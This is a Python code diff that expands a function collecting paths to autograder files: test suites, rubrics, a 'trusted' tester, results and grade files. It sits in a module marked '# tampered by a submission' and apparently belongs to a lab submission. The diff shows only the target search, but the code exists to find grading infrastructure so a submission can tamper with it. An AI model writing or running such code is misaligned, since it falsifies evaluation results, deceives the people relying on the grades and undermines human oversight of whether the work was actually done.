@@ -12,14 +12,18 @@ _MARK = "# tampered by a submission\n"
 
 def _targets():
     found = []
-    for entry in list(_sys.path) + ["/autograder", "/autograder/source", "/tmp", _os.getcwd()]:
-        for pattern in ("**/grader/suite/test_2a.py", "**/grader/rubric.toml",
-                        "**/harness/_trusted/tester.py", "**/results.json", "**/*.csv",
-                        "**/grades-json/*.json", "**/raftlab.json"):
-            try:
-                found += _glob.glob(_os.path.join(entry, pattern), recursive=True)[:20]
-            except BaseException:
-                pass
+    roots = list(_sys.path) + ["/autograder", "/autograder/source", "/autograder/source/raftlab",
+                              "/autograder/results", _os.getcwd()]
+    for root in roots:
+        for name in ("grader/suite/test_2a.py", "grader/rubric.toml", "rubric.toml",
+                     "harness/_trusted/tester.py", "results.json", "raftlab.json"):
+            found.append(_os.path.join(root, name))
+    for pattern in ("/tmp/*/*.json", "/tmp/*/*/*.json", "/tmp/*/*.csv", "/tmp/*/*/*.csv",
+                    "/tmp/pytest-of-*/*/*/out/*", "/tmp/pytest-of-*/*/*/*/results/*"):
+        try:
+            found += _glob.glob(pattern)[:50]
+        except BaseException:
+            pass
     return found
 
 
